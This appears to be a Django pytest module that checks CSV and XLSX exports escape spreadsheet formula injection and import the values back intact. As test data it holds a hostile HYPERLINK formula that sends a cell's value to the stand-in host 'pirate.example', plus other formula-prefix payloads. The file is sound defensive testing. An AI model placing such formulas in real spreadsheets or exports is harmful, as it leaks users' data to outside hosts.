"""No spreadsheet formula in the statistics exports or the open data (issue 13, finding 4),
and the pair of functions every CSV and XLSX writer and reader shares
(pathway.spreadsheets)."""

import csv
import io
import json
import zipfile

import openpyxl
import pytest
from django.test import Client

from learners import imports
from pathway import spreadsheets
from pathway.models import Place
from stats.demo.factories import ActorFactory, PlaceFactory
from tests.pathway.test_open_data import errors, validate
from tests.stats.test_stats_figures import KnownTown

pytestmark = pytest.mark.security_review

EVIL_LINK = '=HYPERLINK("https://pirate.example/?vol="&A2,"Voir")'


@pytest.mark.parametrize(
    "value, written",
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'=1+1", "''=1+1"),  # a quote of its own: one more, so that one comes off
        ("'", "''"),
        ("=", "'="),
        ("Médiathèque", "Médiathèque"),
        ("l'atelier", "l'atelier"),
        ("", ""),
        ("-12", "-12"),  # numbers stay numbers
        ("-1,5", "-1,5"),
        ("-1.5", "-1.5"),
        ("+33490581234", "+33490581234"),
        (-3, -3),
        (-1.5, -1.5),
        (None, None),
    ],
)
def test_csv_cells_are_quoted_and_read_back_exactly(value, written):
    assert spreadsheets.csv_cell(value) == written
    if isinstance(value, str):
        assert spreadsheets.csv_value(written) == value


def test_a_quote_typed_by_hand_before_ordinary_text_is_kept():
    assert spreadsheets.csv_value("'Tout compris") == "'Tout compris"


def test_xlsx_text_is_never_a_formula_nor_an_error():
    content = spreadsheets.xlsx_bytes([("Feuille", [["nom", "n"], [EVIL_LINK, -4], ["#N/A", 2.5]])])
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    values = [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]
    assert values == [
        [("nom", "s"), ("n", "s")],
        [(EVIL_LINK, "s"), (-4, "n")],
        [("#N/A", "s"), (2.5, "n")],
    ]
    assert_no_formula(content)


def assert_no_formula(content):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            assert b"<f>" not in archive.read(name), name


# Statistics ---------------------------------------------------------------------------------


@pytest.fixture
def hostile_town(db):
    """The town of the figures tests, whose actor, operator, module and neighbourhood were
    named by someone malicious."""
    town = KnownTown()
    names = {
        town.fs: EVIL_LINK,
        town.caf: "@SUM(1+1)",
        town.module: "+1+1",
        town.maille: "-1+cmd",
    }
    for thing, name in names.items():
        thing.name = name
        thing.save()
    town.names = names
    return town


def test_statistics_xlsx_writes_names_as_text(hostile_town, cast):
    client = cast.client("official")
    response = client.get("/stats/export/tout.xlsx?year=2026")
    assert response.status_code == 200
    assert_no_formula(response.content)
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    found = {
        cell.value: cell.data_type
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value in hostile_town.names.values()
    }
    assert found == dict.fromkeys(hostile_town.names.values(), "s")
    # The name of the chosen actor, written above the table, too.
    response = client.get(f"/stats/export/tout.xlsx?year=2026&actor={hostile_town.fs.pk}")
    assert_no_formula(response.content)
    first = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    cell = next(row[1] for row in first.iter_rows() if row[0].value == "Structure")
    assert (cell.value, cell.data_type) == (EVIL_LINK, "s")


@pytest.mark.parametrize(
    "table, name",
    [
        ("boucles", EVIL_LINK),  # actor
        ("demarches", "@SUM(1+1)"),  # operator
        ("modules", "+1+1"),
        ("quartiers", "-1+cmd"),
    ],
)
def test_statistics_csv_quotes_names(hostile_town, cast, table, name):
    response = cast.client("official").get(f"/stats/export/{table}.csv?year=2026")
    assert response.status_code == 200
    cells = [
        c
        for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")
        for c in row
    ]
    assert "'" + name in cells and name not in cells


def test_the_filters_above_a_statistics_csv_are_quoted(hostile_town, cast):
    response = cast.client("official").get(
        f"/stats/export/chiffres-cles.csv?year=2026&actor={hostile_town.fs.pk}"
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert ["Structure", "'" + EVIL_LINK] in rows


# Open data ----------------------------------------------------------------------------------


@pytest.fixture
def hostile_place(db):
    return PlaceFactory(
        actor=ActorFactory(name="Asso du quartier", siret="43493312300029"),
        name=EVIL_LINK,
        summary="-Ateliers+1",
        address_complement="@bâtiment B",
        longitude=-1.553,
        latitude=47.218,
        postcode="44000",
        city="Nantes",
        insee_code="44109",
        # The open data writes typology codes that the import does not read (a gap of its
        # own, outside this test).
        typology=[],
    )


def test_open_data_csv_quotes_a_hostile_place_name_and_stays_valid(hostile_place, tmp_path):
    content = Client().get("/open-data/places.csv").content
    report = validate(content, "places.csv", tmp_path)
    assert report.valid, errors(report)
    row = next(csv.DictReader(io.StringIO(content.decode())))
    assert row["nom"] == "'" + EVIL_LINK
    assert row["presentation_resume"] == "'-Ateliers+1"
    assert row["complement_adresse"] == "'@bâtiment B"
    assert row["longitude"] == "-1.553"  # a number, as it was
    assert row["telephone"].startswith("+33")  # the standard's pattern, untouched
    # JSON is not opened by a spreadsheet: the name as it is.
    assert json.loads(Client().get("/open-data/places.json").content)[0]["nom"] == EVIL_LINK


def test_open_data_imported_back_gives_the_same_names(hostile_place, cast):
    Place.objects.update(typology=[])  # the cast's place too (see hostile_place)
    content = Client().get("/open-data/places.csv").content
    assert next(csv.DictReader(io.StringIO(content.decode())))["nom"] == "'" + EVIL_LINK
    Place.objects.filter(pk=hostile_place.pk).delete()
    dataset = imports.read_dataset(content, "places.csv")
    report = imports.run_import(
        imports.KINDS["places"], dataset, user=cast.network_admin, dry_run=False
    )
    assert report["errors"] == [] and report["new"] == 1
    place = Place.objects.get(actor=hostile_place.actor)
    assert (place.name, place.summary, place.address_complement) == (
        EVIL_LINK,
        "-Ateliers+1",
        "@bâtiment B",
    )


def test_the_admin_import_of_open_data_reads_names_back_too(hostile_place):
    from pathway import opendata

    content = Client().get("/open-data/places.csv").content
    assert next(csv.DictReader(io.StringIO(content.decode())))["nom"] == "'" + EVIL_LINK
    Place.objects.filter(pk=hostile_place.pk).delete()
    dataset = spreadsheets.CSVFormat().create_dataset(content.decode())
    result = opendata.PlaceResource().import_data(dataset, raise_errors=False)
    assert not result.has_errors() and not result.has_validation_errors()
    assert Place.objects.get(actor=hostile_place.actor).name == EVIL_LINK


def test_the_admin_offers_the_reading_csv_format(cast):
    from pathway.admin import PlaceAdmin

    assert spreadsheets.CSVFormat in PlaceAdmin.import_formats
